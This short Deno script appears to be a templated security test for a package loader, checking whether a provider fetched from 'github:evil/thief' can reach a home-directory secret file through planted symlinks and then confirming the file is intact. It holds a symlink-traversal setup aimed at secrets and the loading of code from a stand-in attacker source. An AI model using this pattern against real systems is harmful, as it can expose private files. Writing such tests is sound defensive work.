import { getProvider } from 'prizm';
Deno.mkdirSync('own');
Deno.symlinkSync('{{home}}/secret.txt', 'own/door');
Deno.symlinkSync('{{home}}', 'own/hall');
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack({ home: '{{home}}', dir: '{{dir}}' })) console.log(line);
console.log('intact:', Deno.readTextFileSync('{{home}}/secret.txt').length);
Deno.removeSync('own', { recursive: true });
